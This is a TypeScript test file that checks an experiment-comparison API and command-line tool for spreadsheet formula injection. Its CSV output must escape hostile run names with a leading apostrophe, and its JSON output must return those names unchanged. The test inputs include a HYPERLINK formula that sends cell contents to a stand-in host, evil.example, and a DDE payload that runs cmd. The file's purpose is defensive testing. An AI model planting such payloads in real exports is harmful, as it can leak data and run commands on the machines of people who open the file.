/**
 * RELIABILITY S12: no cell of an export is a formula, no matter who named what stands in it; JSON gives names
 * back as they are.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { elementAt } from '@railyard/base';
import { parse } from 'csv-parse/sync';
import { type RunningServer, startServer } from '../../apps/api/src/index.js';
import { say } from '../support/figures.js';
import { temporaryFolder, waitUntil } from '../support/harness.js';
import { call } from '../support/http.js';
import { railyard } from '../support/processes.js';
import { experimentOf } from '../support/reliability.js';
import { replaced } from '../support/routes.js';

const NAMES = [
  '=HYPERLINK("http://evil.example?x="&A1,"see")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
];
const folder = temporaryFolder();
let server: RunningServer;
const runs: string[] = [];

const replayed = {
  ...experimentOf(1),
  replay: { faults: { preset: 'llama3-h100' }, horizon: { kind: 'wall', days: 1 }, replicas: 2 },
};
/** The name stands for the run, and in a text that a comparison shows. */
let documents: object[];

beforeAll(async () => {
  server = await startServer({
    port: 0,
    databaseFile: join(folder.path, 'export.db'),
    workerFile: join(import.meta.dirname, '../../dist/libs/jobs/src/simulation/simulation.worker.js'),
    threads: 2,
    logLevel: 'silent',
    graceS: 0,
  });
  const { document } = (await call(server.url, '/v1/experiments?dryRun=true', { body: replayed })).json;
  documents = NAMES.map(
    (name) =>
      replaced(replaced(document, ['name'], name), ['replay', 'faults', 'description'], name) as object,
  );
  for (const body of documents) {
    const location = String((await call(server.url, '/v1/experiments', { body })).headers.get('location'));
    await waitUntil(
      async () => (await call(server.url, location)).json.state === 'succeeded',
      'it is computed',
    );
    runs.push(elementAt(location.split('/'), 3));
  }
});

afterAll(async () => {
  await server.close();
  folder.remove();
});

const cellsOf = (csv: string): string[] =>
  (parse(csv, { relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
const isNumber = (cell: string): boolean => /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
const formulasIn = (csv: string): string[] =>
  cellsOf(csv).filter((cell) => isFormula(cell) && !isNumber(cell));
/** Each name is there, led by an apostrophe. */
const escapedIn = (csv: string): string[] =>
  NAMES.filter((name) => cellsOf(csv).some((cell) => cell.startsWith("'") && cell.includes(name)));

it('over HTTP', async () => {
  const csv = await call(server.url, `/v1/compare?runs=${runs.join(',')}&format=csv`);
  expect([csv.status, csv.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  expect(formulasIn(csv.text)).toEqual([]);
  expect(escapedIn(csv.text)).toEqual(NAMES);
  const json = await call(server.url, `/v1/compare?runs=${runs.join(',')}`);
  expect(json.headers.get('content-type')).toMatch(/^application\/json/);
  expect(json.headers.get('x-content-type-options')).toBe('nosniff');
  for (const name of NAMES) expect(JSON.stringify(json.json)).toContain(JSON.stringify(name));
  const listed = (await call(server.url, '/v1/runs')).json.items as { name: string }[];
  expect(listed.map(({ name }) => name).reverse()).toEqual(NAMES);
  say('S12, HTTP', { cells: cellsOf(csv.text).length, formulas: formulasIn(csv.text).length });
});

it('by command', async () => {
  const files = documents.map((document, index) => {
    const file = join(folder.path, `${index}.json`);
    writeFileSync(file, JSON.stringify(document));
    return file;
  });
  const sweep = join(folder.path, 'sweep.json');
  writeFileSync(
    sweep,
    JSON.stringify({
      apiVersion: 'railyard/v1',
      kind: 'Sweep',
      name: NAMES[0],
      preset: 'deepseek-v3-mpft',
      method: 'list',
      parameters: {},
      points: NAMES.map((name) => ({ 'workload.model.source': name })),
    }),
  );
  const sources = {
    compare: ['compare', ...files],
    run: ['run', elementAt(files, 0)],
    sweep: ['sweep', sweep, '--dry-run'],
  };
  const figures: Record<string, number> = {};
  for (const [name, args] of Object.entries(sources)) {
    const { code, stdout, stderr } = await railyard([...args, '-o', 'csv'], folder.path);
    expect([name, code, stderr.split('\n')[0]]).toEqual([name, 0, '']);
    expect([name, formulasIn(stdout)]).toEqual([name, []]);
    figures[name] = cellsOf(stdout).length;
    if (name !== 'run') expect([name, escapedIn(stdout)]).toEqual([name, NAMES]);
  }
  const { stdout } = await railyard(['compare', ...files, '--json'], folder.path);
  for (const name of NAMES) expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify(name));
  say('S12, command', figures);
});
